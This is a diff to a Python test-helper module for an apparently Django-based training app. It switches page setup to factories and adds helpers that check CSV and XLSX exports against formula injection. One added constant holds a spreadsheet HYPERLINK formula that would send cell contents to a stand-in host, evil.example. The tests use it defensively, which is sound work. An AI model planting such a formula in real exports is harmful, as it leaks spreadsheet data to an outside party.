@@ -1,8 +1,9 @@
 """Small helpers shared by the request, service and browser tests."""
 
-from learning.factories import EnrolmentFactory
-from learning.models import ModuleIndexPage, ModulePage
-from scenarios.models import Attempt, ScenarioPage
+from learning.factories import EnrolmentFactory, ModulePageFactory
+from learning.models import ModulePage
+from scenarios.factories import ScenarioPageFactory
+from scenarios.models import Attempt
 from scenarios.services import Step, answer_remaining, walk
 
 
@@ -132,17 +133,8 @@ BRANCHING_STEPS = [
 
 def make_branching_module(officer) -> ModulePage:
     """Publish the branching module (pass mark 50%) and assign it to ``officer``."""
-    index = ModuleIndexPage.objects.get()
-    module = index.add_child(
-        instance=ModulePage(title="Branching", slug="branching", summary="A branching module.", pass_mark=50)
-    )
-    module.save_revision().publish()
-    scenario = module.add_child(
-        instance=ScenarioPage(
-            title="The witness", slug="the-witness", narrative="<p>A witness.</p>", steps=BRANCHING_STEPS
-        )
-    )
-    scenario.save_revision().publish()
+    module = ModulePageFactory(title="Branching", summary="A branching module.", pass_mark=50)
+    ScenarioPageFactory(parent=module, title="The witness", narrative="<p>A witness.</p>", steps=BRANCHING_STEPS)
     EnrolmentFactory(user=officer, module=module)
     return module
 
@@ -156,3 +148,40 @@ def sign_in_with_mfa(client, user) -> None:
     session = client.session
     session[SESSION_KEY] = {"method": "test", "at": 0}
     session.save()
+
+
+# Exports: what a spreadsheet would see, and proof that it would run nothing.
+
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'  # a name a spreadsheet would run
+
+
+def csv_cells(response) -> list[list[str]]:
+    """The rows of a CSV download (streamed or not)."""
+    import csv
+    import io
+
+    body = b"".join(response.streaming_content) if response.streaming else response.content
+    return list(csv.reader(io.StringIO(body.decode())))
+
+
+def xlsx_cells(response) -> list[list]:
+    """The rows of an XLSX download; fails if any cell is a formula."""
+    import io
+
+    from openpyxl import load_workbook
+
+    body = b"".join(response.streaming_content) if response.streaming else response.content
+    sheet = load_workbook(io.BytesIO(body)).active
+    rows = []
+    for row in sheet.iter_rows():
+        assert all(cell.data_type != "f" for cell in row), [cell.value for cell in row]
+        rows.append([cell.value for cell in row])
+    return rows
+
+
+def assert_formula_safe(rows: list[list], text: str = FORMULA_NAME) -> None:
+    """No cell in ``rows`` starts as a formula would, and ``text`` is there, shown, not run."""
+    starts = ("=", "+", "-", "@", "\t", "\r")
+    running = [cell for row in rows for cell in row if isinstance(cell, str) and cell.startswith(starts)]
+    assert not running, running
+    assert any(isinstance(cell, str) and cell.startswith("'" + text) for row in rows for cell in row), rows
